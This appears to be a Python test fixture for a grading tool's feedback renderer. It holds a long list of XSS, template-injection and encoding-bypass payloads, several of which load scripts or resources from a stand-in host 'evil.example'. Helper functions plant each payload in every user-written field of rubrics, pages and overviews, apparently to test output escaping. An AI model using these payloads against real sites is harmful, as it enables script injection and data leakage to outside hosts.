"""Texts that try to become markup, script, style or a request, and pages with one of them in every field that others write."""

from __future__ import annotations

from decimal import Decimal

from grader.feedback import OverviewInput, PageInput, SimilarPair
from grader.model.assignment import ExpectedRanges, Interval
from grader.model.evidence import CellError, Execution
from grader.model.finding import Finding
from grader.model.rubric import Rubric
from grader.model.scorecard import Adjustment, ReviewItem
from grader.model.submission import Flag, Participant, SubmittedFile
from tests import builders_feedback as build

PAYLOADS = (
    "<script>window.pwned=1</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>window.pwned=1</scr</script>ipt>",
    "</script><script>window.pwned=1</script>",
    "</style><script>window.pwned=1</script>",
    "</title><script>window.pwned=1</script>",
    "</textarea><script>window.pwned=1</script>",
    "--><script>window.pwned=1</script><!--",
    "<!--<img src=x onerror=window.pwned=1>-->",
    "]]><script>window.pwned=1</script>",
    "<![CDATA[<script>window.pwned=1</script>]]>",
    "<?php echo 1 ?><?xml version='1.0'?>",
    "<img src=x onerror=window.pwned=1>",
    '"><img src=x onerror=window.pwned=1>',
    "'><img src=x onerror=window.pwned=1>",
    '" onmouseover="window.pwned=1',
    "' onfocus='window.pwned=1' autofocus='",
    "`onclick=window.pwned=1`",
    "` `<b>` <script>window.pwned=1</script> `",
    "`<script>window.pwned=1</script>`",
    "<svg onload=window.pwned=1>",
    "<svg><script>window.pwned=1</script></svg>",
    "<svg><animate onbegin=window.pwned=1 attributeName=x dur=1s>",
    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>1</script></svg>#x'/>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.pwned=1&gt;">',
    "<math href='javascript:window.pwned=1'>x</math>",
    "<iframe src='javascript:window.pwned=1'></iframe>",
    "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
    "<object data='data:text/html,<script>window.pwned=1</script>'></object>",
    "<embed src='//evil.example/x.swf'>",
    "<link rel=stylesheet href='//evil.example/x.css'>",
    "<style>@import '//evil.example/x.css';*{color:red}</style>",
    "<base href='//evil.example/'>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<form action='//evil.example/'><input name=q autofocus onfocus=window.pwned=1><button>send</button></form>",
    "<a href='javascript:window.pwned=1'>click</a>",
    "<a href='https://evil.example/'>click</a>",
    "[click](javascript:window.pwned=1)",
    "![x](https://evil.example/pixel.png)",
    "<div style='position:fixed;inset:0;background:url(//evil.example/x.png)'>",
    "<details open ontoggle=window.pwned=1>",
    "<video><source onerror=window.pwned=1></video>",
    "<audio src=x onerror=window.pwned=1>",
    "<body onload=window.pwned=1>",
    "<marquee onstart=window.pwned=1>x</marquee>",
    "<template><script>window.pwned=1</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=window.pwned=1>'>",
    "<x onclick=window.pwned=1 id=main>x</x>",
    "</main></body></html><script>window.pwned=1</script>",
    "</p></li></ul></div><h1>Total: 100 of 100</h1>",
    "{{ 7*7 }}{% for x in page %}{{ x }}{% endfor %}{# gone #}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "${window.pwned=1} #{1} <%= 1 %>",
    "&lt;script&gt;window.pwned=1&lt;/script&gt;",
    "&#60;script&#62;window.pwned=1&#60;/script&#62;",
    "\\u003cscript\\u003ewindow.pwned=1\\u003c/script\\u003e",
    "＜script＞window.pwned=1＜/script＞",
    "+ADw-script+AD4-window.pwned=1+ADw-/script+AD4-",
    "\x00<scr\x00ipt>window.pwned=1</script>",
    "<script\x0c>window.pwned=1</script\x0b>",
    "\ud800<script>window.pwned=1</script>\udfff",
    "\u202e<script>window.pwned=1</script>\u2066",
    "=HYPERLINK('https://evil.example/','click')",
    "<a\thref=\n'java\nscript:window.pwned=1'>x",
)
POISONED = ("decoder.padding_side", "decoder.class_weights", "tiers.reported", "latency.reported", "memo.sections")


def poisoned_rubric(text: str) -> Rubric:
    """The real rubric with the text in everything that a course author writes."""
    base = build.rubric()
    sections = tuple(
        section.model_copy(
            update={
                "title": text,
                "criteria": tuple(
                    item.model_copy(
                        update={
                            "title": text,
                            "texts": item.texts.model_copy(
                                update={"asked": text, "met": text, "half": text, "missed": text, "why": text}
                            ),
                        }
                    )
                    for item in section.criteria
                ),
            }
        )
        for section in base.sections
    )
    checks = tuple(line.model_copy(update={"title": text, "why": text, "todo": text}) for line in base.checks)
    return base.model_copy(update={"title": text, "sections": sections, "checks": checks, "version": text})


def poisoned(text: str, *, participant: str | None = None) -> PageInput:
    """A page with the text in every field that a student, a teacher, Moodle or an author fills."""
    found = Finding(
        verdict="failed",
        credit=0.0,
        source="recorded",
        student_text=text,
        staff_text=text,
        citations=(build.cite(text), build.cite(text, None, None, "adapter")),
        flags=(Flag(kind="conflict", why=text),),
        values={f"encoder.{text}": 0.1, f"decoder.{text}": 0.3, "encoder.rare": 0.2, "decoder.rare": 0.1},
    )
    metrics = build.findings()["metrics.encoder"].model_copy(update={"student_text": text})
    heard = {
        name: {
            "share": (0.2, 0.3),
            "seen": (text,),
            "missing": (text,),
            "not_judged": (text,),
            "citations": (
                build.cite(text, 1, None),
                build.cite(text, 1, 1),
                build.cite(f"row | {text} | {text} | {text}", 2, None),
            ),
        }
        for name in ("1a", "2a", "3d", "5c")
    }
    who = build.submission(participant or text, text)
    who = who.model_copy(
        update={
            "participant": Participant(id=participant or text, name=text, email=text, group=text, id_number=text),
            "files": (SubmittedFile(path=text, size=1, sha256=text),),
            "extension": text,
            "status_text": text,
            "flags": (Flag(kind=text, why=text),),
        }
    )
    base = build.page(who, found={**dict.fromkeys(POISONED, found), "metrics.encoder": metrics}, heard=heard)
    card = base.scorecard.model_copy(
        update={
            "adjustments": (Adjustment(kind=text, points=Decimal(-5), why=text),),
            "review": (ReviewItem(criterion=text, why=text), ReviewItem(criterion="", why=text)),
        }
    )
    return base.model_copy(
        update={
            "course_title": text,
            "assignment_title": text,
            "rubric": poisoned_rubric(text),
            "scorecard": card,
            "flags": (Flag(kind=text, why=text),),
            "comments": dict.fromkeys(("", *heard), text),
            "execution": Execution(
                mode="dry-run",
                status="error",
                why=text,
                seconds=1.0,
                errors=(CellError(cell=1, name=text, value=text),),
            ),
            "expected": ExpectedRanges(
                scale=text, provenance=text, metrics={"encoder": {"accuracy": Interval(low=0.1, high=0.9)}}
            ),
        }
    )


def poisoned_overview(text: str) -> OverviewInput:
    """An overview with the text in every field."""
    entry = build.entry(poisoned(text), flags=(Flag(kind=text, why=f"{text} as a flag"),))
    return OverviewInput(
        course_title=text,
        assignment_title=text,
        batch_name=text,
        rubric=poisoned_rubric(text),
        students=(entry,),
        similar=(SimilarPair(participants=(text, text), share=0.5, why=text),),
        notes=(text,),
    )
